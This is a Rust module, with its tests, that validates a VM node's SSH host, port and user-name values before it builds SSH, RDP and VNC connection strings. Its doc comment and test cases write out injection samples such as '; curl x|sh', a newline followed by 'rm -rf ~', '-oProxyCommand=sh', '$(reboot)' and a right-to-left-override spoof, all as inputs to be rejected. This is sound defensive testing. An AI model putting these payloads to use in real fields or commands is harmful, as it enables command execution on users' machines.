//! Ready-to-paste connection strings for a VM: the SSH command, the RDP and the VNC address.
//!
//! They are built from the node's reply (SPEC §5.4: `ssh_ip`, `ssh_port`, `rdp_port`,
//! `vnc_port`, `user_name`), which the machine's owner controls. A hostile owner can answer
//! `ssh_ip = "1.2.3.4; curl x|sh"` or `user_name = "-oProxyCommand=…"`, so every value is
//! checked before anything is built:
//!
//! * host — an IPv4 or IPv6 address, or a DNS host name (RFC 1123 labels, ASCII only);
//! * ports — 1 to 5 ASCII digits, 1–65535;
//! * user name — ASCII letters, digits, `_`, `-`, `.`, not starting with `-`, at most 32.
//!
//! When any value fails, no command or address is produced at all: the values come back as
//! data (raw and escaped for display) with the field that failed and why, as a typed rule.
//! This is the only place these strings are built (app, UI and `dbc ssh` all use it).

use std::net::{Ipv4Addr, Ipv6Addr};

use serde::Serialize;

use crate::models::TaskDetail;

/// Longest host name (RFC 1123, without a trailing dot).
pub const MAX_HOST_LEN: usize = 253;
/// Longest host name label.
pub const MAX_LABEL_LEN: usize = 63;
/// Longest user name (Linux `useradd`'s limit).
pub const MAX_USER_LEN: usize = 32;
/// User name used when the node gives none (`""` or `N/A`): the Linux images' default user.
pub const DEFAULT_USER: &str = "dbc";

/// A connection field of the node's reply (wire name).
#[cfg_attr(feature = "specta", derive(specta::Type))]
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ConnField {
    SshIp,
    SshPort,
    RdpPort,
    VncPort,
    UserName,
}

impl ConnField {
    /// The wire name, e.g. `ssh_ip`.
    pub fn as_str(self) -> &'static str {
        match self {
            ConnField::SshIp => "ssh_ip",
            ConnField::SshPort => "ssh_port",
            ConnField::RdpPort => "rdp_port",
            ConnField::VncPort => "vnc_port",
            ConnField::UserName => "user_name",
        }
    }
}

/// Why a value was refused (a stable code; the first broken rule of the value).
#[cfg_attr(feature = "specta", derive(specta::Type))]
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ConnRule {
    /// Nothing given where a value is needed (a port without a host).
    Empty,
    /// An ASCII control character: a new line, tab, escape, NUL, DEL…
    Control,
    /// A character outside ASCII, including invisible ones such as U+202E (reverses text).
    NotAscii,
    /// Starts with `-`: a program would read it as an option.
    LeadingDash,
    /// A space.
    Space,
    /// A character not allowed in this field (`;`, `$`, `(`, `` ` ``, `|`, `@`, a letter in a
    /// port…).
    Char,
    /// Longer than allowed.
    TooLong,
    /// A host name label is empty, longer than 63 characters, starts or ends with `-`, or the
    /// last label is all digits (neither an IP address nor a host name).
    Label,
    /// A port outside 1–65535.
    Range,
}

impl ConnRule {
    pub fn as_str(self) -> &'static str {
        match self {
            ConnRule::Empty => "empty",
            ConnRule::Control => "control",
            ConnRule::NotAscii => "not_ascii",
            ConnRule::LeadingDash => "leading_dash",
            ConnRule::Space => "space",
            ConnRule::Char => "char",
            ConnRule::TooLong => "too_long",
            ConnRule::Label => "label",
            ConnRule::Range => "range",
        }
    }
}

/// A refused value: the rule and a sentence for a person.
#[cfg_attr(feature = "specta", derive(specta::Type))]
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ConnProblem {
    pub rule: ConnRule,
    pub message: String,
}

/// One connection value of the node's reply, as data.
#[cfg_attr(feature = "specta", derive(specta::Type))]
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ConnValue {
    pub field: ConnField,
    /// Exactly what the node sent. Never paste it anywhere.
    pub raw: String,
    /// `raw` with everything but printable ASCII escaped (`\n`, `\u{202e}`, `\\`), so invisible
    /// and text-reversing characters show; for display only.
    pub shown: String,
    /// Why it was refused; `None` = it passed.
    pub problem: Option<ConnProblem>,
}

/// How to reach a VM: checked, ready-to-paste strings, or the values and why they were refused.
#[cfg_attr(feature = "specta", derive(specta::Type))]
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Connection {
    /// `ssh -p PORT USER@HOST` (Linux VMs with an SSH port); `None` when unsafe.
    pub ssh_command: Option<String>,
    /// `HOST:PORT` (`[v6]:PORT`) for an RDP client (Windows VMs); `None` when unsafe.
    pub rdp_address: Option<String>,
    /// `HOST:PORT` (`[v6]:PORT`) for a VNC viewer; `None` when unsafe.
    pub vnc_address: Option<String>,
    /// Every value passed its check. When false, nothing above is set.
    pub safe: bool,
    /// The connection values the node gave (non-empty ones, plus an empty host when a port
    /// needs one), in the order host, SSH port, RDP port, VNC port, user name.
    pub values: Vec<ConnValue>,
}

impl Connection {
    /// The values that were refused.
    pub fn problems(&self) -> impl Iterator<Item = &ConnValue> {
        self.values.iter().filter(|v| v.problem.is_some())
    }

    /// The checked SSH command, or why there is none.
    pub fn ssh(&self) -> Result<&str, NoCommand> {
        match (&self.ssh_command, self.safe) {
            (Some(c), true) => Ok(c),
            (_, false) => Err(NoCommand::Unsafe),
            (None, true) => Err(NoCommand::NotOffered),
        }
    }
}

/// Why a command is missing.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum NoCommand {
    /// A value failed its check ([`Connection::problems`]).
    Unsafe,
    /// The VM does not offer it (no SSH on Windows VMs, no port given).
    NotOffered,
}

impl NoCommand {
    /// A stable code (the CLI's `error`).
    pub fn code(self) -> &'static str {
        match self {
            NoCommand::Unsafe => "unsafe_connection",
            NoCommand::NotOffered => "not_offered",
        }
    }
    /// A sentence for a person.
    pub fn message(self) -> &'static str {
        match self {
            NoCommand::Unsafe => "the node's connection values failed the safety checks, so no command was built; they are shown as data",
            NoCommand::NotOffered => "this VM offers no SSH (a Windows VM, or no SSH port)",
        }
    }
}

/// A checked host.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Host {
    V4(Ipv4Addr),
    V6(Ipv6Addr),
    Name(String),
}

impl Host {
    /// For `user@host` (no brackets: the port goes in `-p`).
    pub fn bare(&self) -> String {
        match self {
            Host::V4(a) => a.to_string(),
            Host::V6(a) => a.to_string(),
            Host::Name(n) => n.clone(),
        }
    }
    /// `host:port`, IPv6 in brackets.
    pub fn with_port(&self, port: u16) -> String {
        match self {
            Host::V6(a) => format!("[{a}]:{port}"),
            other => format!("{}:{port}", other.bare()),
        }
    }
}

fn problem(rule: ConnRule, message: impl Into<String>) -> ConnProblem {
    ConnProblem {
        rule,
        message: message.into(),
    }
}

/// `raw` with everything but printable ASCII escaped, for display.
pub fn shown(raw: &str) -> String {
    let mut out = String::with_capacity(raw.len());
    for c in raw.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            ' '..='~' => out.push(c),
            c => out.push_str(&format!("\\u{{{:x}}}", c as u32)),
        }
    }
    out
}

/// Rules every value shares: no control characters, ASCII only, no leading `-`, no spaces.
fn common(v: &str, what: &str) -> Result<(), ConnProblem> {
    if v.is_empty() {
        return Err(problem(ConnRule::Empty, format!("no {what} was given")));
    }
    if v.chars().any(|c| c.is_ascii_control()) {
        return Err(problem(
            ConnRule::Control,
            format!("the {what} contains a control character (such as a new line)"),
        ));
    }
    if let Some(c) = v.chars().find(|c| !c.is_ascii()) {
        return Err(problem(
            ConnRule::NotAscii,
            format!(
                "the {what} contains the non-ASCII character U+{:04X}",
                c as u32
            ),
        ));
    }
    if v.starts_with('-') {
        return Err(problem(
            ConnRule::LeadingDash,
            format!("the {what} starts with '-', which a program would read as an option"),
        ));
    }
    if v.contains(' ') {
        return Err(problem(
            ConnRule::Space,
            format!("the {what} contains a space"),
        ));
    }
    Ok(())
}

/// A host: an IPv4 or IPv6 address, or an RFC 1123 host name.
pub fn check_host(v: &str) -> Result<Host, ConnProblem> {
    common(v, "host")?;
    if let Ok(a) = v.parse::<Ipv4Addr>() {
        return Ok(Host::V4(a));
    }
    if let Ok(a) = v.parse::<Ipv6Addr>() {
        return Ok(Host::V6(a));
    }
    if let Some(c) = v
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || *c == '-' || *c == '.'))
    {
        return Err(problem(
            ConnRule::Char,
            format!("'{c}' cannot be part of an IP address or host name"),
        ));
    }
    if v.len() > MAX_HOST_LEN {
        return Err(problem(
            ConnRule::TooLong,
            format!("a host name is at most {MAX_HOST_LEN} characters"),
        ));
    }
    let labels: Vec<&str> = v.split('.').collect();
    for l in &labels {
        if l.is_empty() || l.len() > MAX_LABEL_LEN || l.starts_with('-') || l.ends_with('-') {
            return Err(problem(
                ConnRule::Label,
                format!(
                    "each part of a host name between dots has 1 to {MAX_LABEL_LEN} letters, digits or '-', and does not start or end with '-'"
                ),
            ));
        }
    }
    if labels
        .last()
        .is_some_and(|l| l.bytes().all(|b| b.is_ascii_digit()))
    {
        return Err(problem(
            ConnRule::Label,
            "neither an IP address nor a host name (the last part is all digits)",
        ));
    }
    Ok(Host::Name(v.to_string()))
}

/// A TCP port: 1 to 5 ASCII digits, 1–65535.
pub fn check_port(v: &str) -> Result<u16, ConnProblem> {
    common(v, "port")?;
    if let Some(c) = v.chars().find(|c| !c.is_ascii_digit()) {
        return Err(problem(
            ConnRule::Char,
            format!("a port is digits only, not '{c}'"),
        ));
    }
    match v.parse::<u16>() {
        Ok(p) if p > 0 && v.len() <= 5 => Ok(p),
        _ => Err(problem(ConnRule::Range, "a port is between 1 and 65535")),
    }
}

/// A login name: ASCII letters, digits, `_`, `-`, `.`, not starting with `-`.
pub fn check_user(v: &str) -> Result<String, ConnProblem> {
    common(v, "user name")?;
    if let Some(c) = v
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.')))
    {
        return Err(problem(
            ConnRule::Char,
            format!("'{c}' cannot be part of a user name (letters, digits, '_', '-', '.')"),
        ));
    }
    if v.len() > MAX_USER_LEN {
        return Err(problem(
            ConnRule::TooLong,
            format!("a user name is at most {MAX_USER_LEN} characters"),
        ));
    }
    Ok(v.to_string())
}

fn value(field: ConnField, raw: &str, problem: Option<ConnProblem>) -> ConnValue {
    ConnValue {
        field,
        raw: raw.to_string(),
        shown: shown(raw),
        problem,
    }
}

/// Check a VM's connection values and build what can be built from them.
/// The values of a reply, each checked (the refused ones are `None` and listed in `values`).
struct Parts {
    host: Option<Host>,
    ssh_port: Option<u16>,
    rdp_port: Option<u16>,
    vnc_port: Option<u16>,
    user: Option<String>,
    values: Vec<ConnValue>,
}

fn parts(d: &TaskDetail) -> Parts {
    let nonempty = |s: Option<&str>| s.filter(|s| !s.is_empty()).map(str::to_string);
    let ssh_port = nonempty(d.ssh_port.as_deref());
    let rdp_port = nonempty(d.rdp_port.as_deref());
    let vnc_port = nonempty(Some(&d.vnc_port));
    let any_port = ssh_port.is_some() || rdp_port.is_some() || vnc_port.is_some();
    let mut values = Vec::new();

    let host = if d.ssh_ip.is_empty() && !any_port {
        None
    } else {
        let r = check_host(&d.ssh_ip);
        values.push(value(ConnField::SshIp, &d.ssh_ip, r.clone().err()));
        r.ok()
    };
    let mut port = |field: ConnField, raw: Option<String>| {
        raw.and_then(|raw| {
            let r = check_port(&raw);
            values.push(value(field, &raw, r.clone().err()));
            r.ok()
        })
    };
    let ssh_port = port(ConnField::SshPort, ssh_port);
    let rdp_port = port(ConnField::RdpPort, rdp_port);
    let vnc_port = port(ConnField::VncPort, vnc_port);
    let user = if d.user_name.is_empty() || d.user_name == "N/A" {
        Some(DEFAULT_USER.to_string())
    } else {
        let r = check_user(&d.user_name);
        values.push(value(ConnField::UserName, &d.user_name, r.clone().err()));
        r.ok()
    };
    Parts {
        host,
        ssh_port,
        rdp_port,
        vnc_port,
        user,
        values,
    }
}

pub fn connection(d: &TaskDetail) -> Connection {
    let p = parts(d);
    let (ssh_port, rdp_port, vnc_port, values) = (p.ssh_port, p.rdp_port, p.vnc_port, p.values);
    let safe = values.iter().all(|v| v.problem.is_none());
    let (Some(host), Some(user), true) = (p.host, p.user, safe) else {
        return Connection {
            ssh_command: None,
            rdp_address: None,
            vnc_address: None,
            safe,
            values,
        };
    };
    Connection {
        ssh_command: ssh_port
            .filter(|_| !d.is_windows())
            .map(|p| format!("ssh -p {p} {user}@{}", host.bare())),
        rdp_address: rdp_port.map(|p| host.with_port(p)),
        vnc_address: vnc_port.map(|p| host.with_port(p)),
        safe,
        values,
    }
}

/// What "Open" starts for a VM.
#[cfg_attr(feature = "specta", derive(specta::Type))]
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, serde::Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum OpenKind {
    /// An SSH session in the user's terminal.
    Ssh,
    /// The OS's RDP client, through a `.rdp` file.
    Rdp,
    /// The OS's VNC viewer, through a `vnc://` address.
    Vnc,
}

/// How to hand a connection to the desktop, built only from checked values.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Launch {
    /// Run in a terminal: the program and its arguments (never through a shell).
    Terminal(Vec<String>),
    /// Write this file (name, content) and open it with its OS handler.
    File(String, String),
    /// Open this address with its OS handler.
    Url(String),
}

/// What "Open" does for this VM, or why it cannot.
pub fn launch(d: &TaskDetail, kind: OpenKind) -> Result<Launch, NoCommand> {
    let p = parts(d);
    if p.values.iter().any(|v| v.problem.is_some()) {
        return Err(NoCommand::Unsafe);
    }
    let (Some(host), Some(user)) = (p.host, p.user) else {
        return Err(NoCommand::NotOffered);
    };
    match kind {
        OpenKind::Ssh => p.ssh_port.filter(|_| !d.is_windows()).map(|port| {
            Launch::Terminal(vec![
                "ssh".into(),
                "-p".into(),
                port.to_string(),
                format!("{user}@{}", host.bare()),
            ])
        }),
        OpenKind::Rdp => p.rdp_port.map(|port| {
            let file: String = d
                .task_id
                .chars()
                .filter(|c| c.is_ascii_alphanumeric() || *c == '-' || *c == '_')
                .take(64)
                .collect();
            Launch::File(
                format!("{}.rdp", if file.is_empty() { "vm" } else { &file }),
                format!(
                    "full address:s:{}\r\nusername:s:{user}\r\nprompt for credentials:i:1\r\n",
                    host.with_port(port)
                ),
            )
        }),
        OpenKind::Vnc => p
            .vnc_port
            .map(|port| Launch::Url(format!("vnc://{}", host.with_port(port)))),
    }
    .ok_or(NoCommand::NotOffered)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn detail(v: serde_json::Value) -> TaskDetail {
        serde_json::from_value(v).unwrap()
    }

    fn linux(ip: &str, port: &str, user: &str) -> TaskDetail {
        detail(
            json!({"os": "linux", "ssh_ip": ip, "ssh_port": port, "user_name": user, "vnc_port": "5901"}),
        )
    }

    /// The one refused field of a connection and its rule.
    fn refused(c: &Connection) -> Vec<(ConnField, ConnRule)> {
        c.problems()
            .map(|v| (v.field, v.problem.as_ref().unwrap().rule))
            .collect()
    }

    fn assert_nothing_built(c: &Connection) {
        assert!(!c.safe, "{c:?}");
        assert_eq!(c.ssh_command, None, "{c:?}");
        assert_eq!(c.rdp_address, None, "{c:?}");
        assert_eq!(c.vnc_address, None, "{c:?}");
    }

    #[test]
    fn a_linux_vm_gets_a_checked_ssh_command_and_vnc_address() {
        let c = connection(&linux("198.51.100.17", "20022", "dbc"));
        assert!(c.safe);
        assert_eq!(
            c.ssh_command.as_deref(),
            Some("ssh -p 20022 dbc@198.51.100.17")
        );
        assert_eq!(c.vnc_address.as_deref(), Some("198.51.100.17:5901"));
        assert_eq!(c.rdp_address, None);
        let fields: Vec<ConnField> = c.values.iter().map(|v| v.field).collect();
        assert_eq!(
            fields,
            [
                ConnField::SshIp,
                ConnField::SshPort,
                ConnField::VncPort,
                ConnField::UserName
            ]
        );
    }

    #[test]
    fn ipv6_hosts_are_bracketed_in_addresses_but_not_after_the_at() {
        let c = connection(&linux("2001:db8::17", "22", "ubuntu"));
        assert_eq!(
            c.ssh_command.as_deref(),
            Some("ssh -p 22 ubuntu@2001:db8::17")
        );
        assert_eq!(c.vnc_address.as_deref(), Some("[2001:db8::17]:5901"));
        let w = connection(&detail(
            json!({"os": "windows", "ssh_ip": "::1", "rdp_port": 3389, "vnc_port": "5902", "user_name": "Administrator"}),
        ));
        assert!(w.safe);
        assert_eq!(w.ssh_command, None);
        assert_eq!(w.rdp_address.as_deref(), Some("[::1]:3389"));
        assert_eq!(w.vnc_address.as_deref(), Some("[::1]:5902"));
    }

    #[test]
    fn host_names_and_user_names_with_dots_dashes_and_underscores_pass() {
        let c = connection(&linux(
            "gpu-7.eu-west.example.com",
            "2222",
            "first.last_2-x",
        ));
        assert_eq!(
            c.ssh_command.as_deref(),
            Some("ssh -p 2222 first.last_2-x@gpu-7.eu-west.example.com")
        );
        assert!(check_host("localhost").is_ok());
        assert!(check_host(&format!("{}.com", "a".repeat(63))).is_ok());
    }

    #[test]
    fn a_missing_user_name_falls_back_to_the_default_user() {
        for u in ["", "N/A"] {
            let c = connection(&linux("1.2.3.4", "22", u));
            assert_eq!(c.ssh_command.as_deref(), Some("ssh -p 22 dbc@1.2.3.4"));
            assert!(c.values.iter().all(|v| v.field != ConnField::UserName));
        }
    }

    #[test]
    fn shell_metacharacters_in_the_host_are_refused() {
        for ip in [
            "1.2.3.4;reboot",
            "1.2.3.4;curl${IFS}x|sh",
            "$(reboot)",
            "`id`",
            "a|b",
            "a&b",
            "h>f",
            "x@y",
        ] {
            let c = connection(&linux(ip, "22", "dbc"));
            assert_nothing_built(&c);
            assert_eq!(refused(&c), [(ConnField::SshIp, ConnRule::Char)], "{ip}");
        }
    }

    #[test]
    fn the_classic_injections_are_each_caught_with_their_own_rule() {
        let cases: &[(&str, ConnRule)] = &[
            ("1.2.3.4; curl x|sh", ConnRule::Space),
            ("1.2.3.4\nrm -rf ~", ConnRule::Control),
            ("1.2.3.4\r", ConnRule::Control),
            ("1.2.3.4\u{0}", ConnRule::Control),
            ("1.2.3.4\u{1b}[2J", ConnRule::Control),
            ("1.2.3.4\u{7f}", ConnRule::Control),
            ("moc.live\u{202e}1.2.3.4", ConnRule::NotAscii),
            ("exämple.com", ConnRule::NotAscii),
            ("-oProxyCommand=sh", ConnRule::LeadingDash),
            ("1.2.3.4 5.6.7.8", ConnRule::Space),
        ];
        for (ip, rule) in cases {
            let c = connection(&linux(ip, "22", "dbc"));
            assert_nothing_built(&c);
            assert_eq!(refused(&c), [(ConnField::SshIp, *rule)], "{ip:?}");
        }
    }

    #[test]
    fn hostile_user_names_are_refused() {
        let cases: &[(&str, ConnRule)] = &[
            ("-oProxyCommand=curl${IFS}x|sh", ConnRule::LeadingDash),
            ("-o", ConnRule::LeadingDash),
            ("dbc;id", ConnRule::Char),
            ("$(id)", ConnRule::Char),
            ("`id`", ConnRule::Char),
            ("root@evil", ConnRule::Char),
            ("db c", ConnRule::Space),
            ("dbc\n", ConnRule::Control),
            ("dbc\t", ConnRule::Control),
            ("adm\u{202e}nim", ConnRule::NotAscii),
            ("ünicode", ConnRule::NotAscii),
        ];
        for (u, rule) in cases {
            let c = connection(&linux("1.2.3.4", "22", u));
            assert_nothing_built(&c);
            assert_eq!(refused(&c), [(ConnField::UserName, *rule)], "{u:?}");
        }
        let long = "a".repeat(MAX_USER_LEN + 1);
        assert_eq!(check_user(&long).unwrap_err().rule, ConnRule::TooLong);
        assert!(check_user(&"a".repeat(MAX_USER_LEN)).is_ok());
    }

    #[test]
    fn ports_are_ascii_digits_between_1_and_65535() {
        for p in ["1", "22", "65535", "00022"] {
            assert!(check_port(p).is_ok(), "{p}");
        }
        assert_eq!(check_port("00022").unwrap(), 22);
        let cases: &[(&str, ConnRule)] = &[
            ("0", ConnRule::Range),
            ("65536", ConnRule::Range),
            ("000022", ConnRule::Range),
            ("99999999999999999999", ConnRule::Range),
            ("22;id", ConnRule::Char),
            ("22 -oProxyCommand=x", ConnRule::Space),
            ("-1", ConnRule::LeadingDash),
            ("+22", ConnRule::Char),
            ("0x16", ConnRule::Char),
            ("２２", ConnRule::NotAscii),
            ("22\n", ConnRule::Control),
            ("$(id)", ConnRule::Char),
        ];
        for (p, rule) in cases {
            assert_eq!(check_port(p).unwrap_err().rule, *rule, "{p:?}");
            let c = connection(&linux("1.2.3.4", p, "dbc"));
            assert_nothing_built(&c);
            assert_eq!(refused(&c), [(ConnField::SshPort, *rule)], "{p:?}");
        }
    }

    #[test]
    fn a_bad_vnc_or_rdp_port_withholds_every_command() {
        let c = connection(&detail(
            json!({"os": "linux", "ssh_ip": "1.2.3.4", "ssh_port": "22", "user_name": "dbc", "vnc_port": "5901`id`"}),
        ));
        assert_nothing_built(&c);
        assert_eq!(refused(&c), [(ConnField::VncPort, ConnRule::Char)]);
        let w = connection(&detail(
            json!({"os": "windows", "ssh_ip": "1.2.3.4", "rdp_port": "3389 ", "vnc_port": "5901"}),
        ));
        assert_nothing_built(&w);
        assert_eq!(refused(&w), [(ConnField::RdpPort, ConnRule::Space)]);
    }

    #[test]
    fn host_name_labels_follow_rfc_1123() {
        let label = |h: &str| check_host(h).unwrap_err().rule;
        assert_eq!(label("a..b"), ConnRule::Label);
        assert_eq!(label("a.-b.com"), ConnRule::Label);
        assert_eq!(label("a.b-.com"), ConnRule::Label);
        assert_eq!(label("example.com."), ConnRule::Label);
        assert_eq!(label(&format!("{}.com", "a".repeat(64))), ConnRule::Label);
        assert_eq!(label("1.2.3.999"), ConnRule::Label);
        assert_eq!(label("01.2.3.4"), ConnRule::Label);
        assert_eq!(label("a_b.com"), ConnRule::Char);
        assert_eq!(label("[::1]"), ConnRule::Char);
        assert_eq!(label("fe80::1%eth0"), ConnRule::Char);
        let long = vec!["a".repeat(60); 5].join(".");
        assert_eq!(label(&long), ConnRule::TooLong);
    }

    #[test]
    fn several_bad_fields_are_all_reported() {
        let c = connection(&linux("1.2.3.4;x", "22$(id)", "-oX"));
        assert_nothing_built(&c);
        assert_eq!(
            refused(&c),
            [
                (ConnField::SshIp, ConnRule::Char),
                (ConnField::SshPort, ConnRule::Char),
                (ConnField::UserName, ConnRule::LeadingDash),
            ]
        );
    }

    #[test]
    fn a_port_without_a_host_is_refused_and_no_ports_means_no_values() {
        let c = connection(&linux("", "22", "dbc"));
        assert_nothing_built(&c);
        assert_eq!(refused(&c), [(ConnField::SshIp, ConnRule::Empty)]);
        let none = connection(&detail(json!({"os": "linux"})));
        assert!(none.safe && none.values.is_empty() && none.ssh_command.is_none());
    }

    #[test]
    fn raw_values_are_kept_and_shown_escaped() {
        let ip = "1.2.3.4\n\u{202e}hs|x lruc; \\";
        let c = connection(&linux(ip, "22", "dbc"));
        let v = &c.values[0];
        assert_eq!(v.field, ConnField::SshIp);
        assert_eq!(v.raw, ip);
        assert_eq!(v.shown, "1.2.3.4\\n\\u{202e}hs|x lruc; \\\\");
        assert!(v.shown.chars().all(|c| (' '..='~').contains(&c)));
        assert_eq!(shown("\u{0}\t\r"), "\\u{0}\\t\\r");
        let p = v.problem.as_ref().unwrap();
        assert_eq!(p.rule, ConnRule::Control);
        assert!(p.message.contains("control"), "{}", p.message);
    }

    #[test]
    fn ssh_says_why_there_is_no_command() {
        assert_eq!(
            connection(&linux("1.2.3.4", "22", "dbc")).ssh(),
            Ok("ssh -p 22 dbc@1.2.3.4")
        );
        assert_eq!(
            connection(&linux("1.2.3.4", "22", "$(id)")).ssh(),
            Err(NoCommand::Unsafe)
        );
        let w = detail(json!({"os": "windows", "ssh_ip": "1.2.3.4", "rdp_port": "3389"}));
        assert_eq!(connection(&w).ssh(), Err(NoCommand::NotOffered));
        assert_eq!(NoCommand::Unsafe.code(), "unsafe_connection");
    }

    #[test]
    fn rules_and_fields_serialise_as_their_codes() {
        let c = connection(&linux("1.2.3.4", "22", "-oX"));
        let j = serde_json::to_value(&c).unwrap();
        let user = &j["values"][3];
        assert_eq!(user["field"], "user_name");
        assert_eq!(user["problem"]["rule"], "leading_dash");
        assert_eq!(j["safe"], false);
        assert_eq!(j["ssh_command"], serde_json::Value::Null);
        for r in [
            ConnRule::Empty,
            ConnRule::NotAscii,
            ConnRule::LeadingDash,
            ConnRule::TooLong,
        ] {
            assert_eq!(serde_json::to_value(r).unwrap(), r.as_str());
        }
        for f in [ConnField::SshIp, ConnField::UserName, ConnField::VncPort] {
            assert_eq!(serde_json::to_value(f).unwrap(), f.as_str());
        }
    }

    #[test]
    fn open_builds_only_from_checked_values() {
        let d = linux("203.0.113.7", "20022", "ubuntu");
        assert_eq!(
            launch(&d, OpenKind::Ssh).unwrap(),
            Launch::Terminal(vec![
                "ssh".into(),
                "-p".into(),
                "20022".into(),
                "ubuntu@203.0.113.7".into()
            ])
        );
        assert_eq!(launch(&d, OpenKind::Rdp), Err(NoCommand::NotOffered));
        let hostile = linux("203.0.113.7; curl x|sh", "20022", "ubuntu");
        assert_eq!(launch(&hostile, OpenKind::Ssh), Err(NoCommand::Unsafe));
        let bad_user = linux("203.0.113.7", "20022", "-oProxyCommand=x");
        assert_eq!(launch(&bad_user, OpenKind::Ssh), Err(NoCommand::Unsafe));
        assert_eq!(
            launch(&d, OpenKind::Vnc).unwrap(),
            Launch::Url("vnc://203.0.113.7:5901".into())
        );
        let v6 = linux("2001:db8::17", "20022", "");
        assert_eq!(
            launch(&v6, OpenKind::Vnc).unwrap(),
            Launch::Url("vnc://[2001:db8::17]:5901".into())
        );
        let win = detail(
            json!({"task_id": "vm/../x 1", "os": "windows server 2022", "ssh_ip": "203.0.113.7",
            "rdp_port": "23389", "vnc_port": "5901", "user_name": "Administrator"}),
        );
        assert_eq!(
            launch(&win, OpenKind::Ssh),
            Err(NoCommand::NotOffered),
            "no SSH on Windows"
        );
        let Launch::File(name, content) = launch(&win, OpenKind::Rdp).unwrap() else {
            panic!()
        };
        assert_eq!(name, "vmx1.rdp", "only safe characters name the file");
        assert!(
            content.starts_with("full address:s:203.0.113.7:23389\r\nusername:s:Administrator\r\n"),
            "{content}"
        );
    }
}
